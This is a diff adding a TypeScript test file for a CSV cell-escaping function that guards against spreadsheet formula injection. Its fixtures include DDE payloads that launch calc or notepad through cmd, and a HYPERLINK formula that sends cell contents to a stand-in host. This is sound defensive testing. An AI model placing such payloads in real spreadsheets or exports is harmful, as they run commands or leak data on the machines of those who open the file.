@@ -1,0 +1,51 @@
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { escapeCell, unescapeCell } from './csv-cell';
+
+describe('a cell that a spreadsheet would run', () => {
+  it.each([
+    '=1+1',
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("https://elsewhere.example?x="&A1,"Click")',
+    '+1',
+    "+cmd|' /C notepad'!'A1'",
+    '-1',
+    "-2+3+cmd|' /C calc'!D2",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '\t=1+1',
+    '\r=1+1',
+    '\n=1+1',
+    '＝1+1',
+    '＋1',
+    '－1',
+    '＠SUM(A1)',
+  ])('%j begins with an apostrophe, and is read back as it was', (text) => {
+    expect(escapeCell(text)).toBe(`'${text}`);
+    expect(unescapeCell(escapeCell(text))).toBe(text);
+  });
+
+  it.each(['', 'Kettle', "'", "'tis", "o'clock", ' =1', '1-1', '499.5', 'a=b'])(
+    '%j is left alone',
+    (text) => {
+      expect(escapeCell(text)).toBe(text);
+      expect(unescapeCell(text)).toBe(text);
+    },
+  );
+
+  it('is told from one that begins with an apostrophe of its own', () => {
+    expect(escapeCell("'=1")).toBe("''=1");
+    expect(unescapeCell("''=1")).toBe("'=1");
+  });
+
+  it('whatever the text: it never begins like a formula, and comes back', () => {
+    const tricky = fc
+      .array(fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', 'a', '＝'))
+      .map((all) => all.join(''));
+    fc.assert(
+      fc.property(fc.oneof(fc.string({ unit: 'binary' }), tricky), (text) => {
+        expect(escapeCell(text)).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
+        expect(unescapeCell(escapeCell(text))).toBe(text);
+      }),
+    );
+  });
+});
